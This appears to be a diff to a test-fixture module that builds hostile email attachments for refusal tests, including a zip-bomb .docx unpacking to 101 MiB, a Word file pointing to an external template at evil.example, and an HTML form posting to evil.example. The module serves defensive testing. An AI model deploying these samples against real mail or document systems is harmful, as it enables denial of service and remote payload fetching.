@@ -57,7 +57,6 @@ FILES: Mapping[str, bytes] = {
             b'Target="https://evil.example/t.dotm" TargetMode="External"/>'
         }
     ),
-    "bomb": packed({"[Content_Types].xml": b"<Types/>", "word/document.xml": bytes(101 * 1024 * 1024)}),
     "archive": packed({"return.docx": b"a return"}),
     "old-word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
     "outlook-item": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
@@ -67,6 +66,12 @@ FILES: Mapping[str, bytes] = {
     "program": b"MZ\x90\0\x03\0\0\0",
     "page": b"<html><body><form action='https://evil.example'></form></body></html>",
 }
+
+
+def bomb() -> Attached:
+    """A small package that unpacks to 101 MiB; it takes a while to pack."""
+    large = packed({"[Content_Types].xml": b"<Types/>", "word/document.xml": bytes(101 * 1024 * 1024)})
+    return Attached("return.docx", OCTETS, large)
 
 
 def attaching(name: str, kind: str, content: bytes) -> Callable[[], bytes]:
@@ -114,7 +119,7 @@ FILES_REFUSED: Shapes = {
     "file-old-word": attaching("return.doc", "application/msword", FILES["old-word"]),
     "file-rich-text-object": attaching("return.rtf", "application/rtf", b"{\\rtf1{\\object\\objdata 01}}"),
     "file-zip": attaching("return.zip", "application/zip", FILES["archive"]),
-    "file-zip-bomb": attaching("return.docx", OCTETS, FILES["bomb"]),
+    "file-zip-bomb": lambda: by.outlook(replace(DONE, attached=(bomb(),))),
     "file-7z": attaching("return.7z", OCTETS, b"7z\xbc\xaf\x27\x1c\0\x04" + bytes(64)),
     "file-outlook-item": attaching("item.msg", "application/vnd.ms-outlook", FILES["outlook-item"]),
     "file-unknown": attaching("return.xyz", OCTETS, b"\x01\x02\x03\x04\x05"),
